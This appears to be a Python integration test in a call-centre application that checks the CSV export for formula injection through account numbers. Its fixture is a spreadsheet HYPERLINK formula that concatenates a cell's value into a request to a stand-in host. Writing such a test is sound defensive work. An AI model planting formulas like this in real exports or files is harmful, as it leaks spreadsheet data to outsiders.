"""adv15: a value from the bank's file that a spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import io
from zoneinfo import ZoneInfo

from hotline.enums import AttemptStatus, Direction
from hotline.kpis import export_chunk
from hotline.models import ContactAttempt
from tests.integration.dialer_fixtures import NOW, add_account

FORMULA = '=HYPERLINK("http://x.test/?"&A1,"open")'


def test_an_account_number_shaped_like_a_formula_is_exported_as_text(Session):
    """The accounts file takes any ASCII up to 32 characters as an account number; the
    attempts export writes it as is, and Excel runs it as a formula (CSV injection)."""
    with Session.begin() as session:
        account = add_account(session, FORMULA[:32])
        session.add(
            ContactAttempt(
                direction=Direction.OUTBOUND,
                number="+14155550100",
                status=AttemptStatus.COMPLETED,
                account_id=account.id,
                placed_at=NOW,
                started_at=NOW,
            )
        )
    with Session() as session:
        lines, _ = export_chunk(session, NOW.date(), NOW.date(), ZoneInfo("UTC"))
    (row,) = list(csv.reader(io.StringIO("".join(lines))))
    cell = row[2]
    assert not cell.startswith(("=", "+", "-", "@")), cell
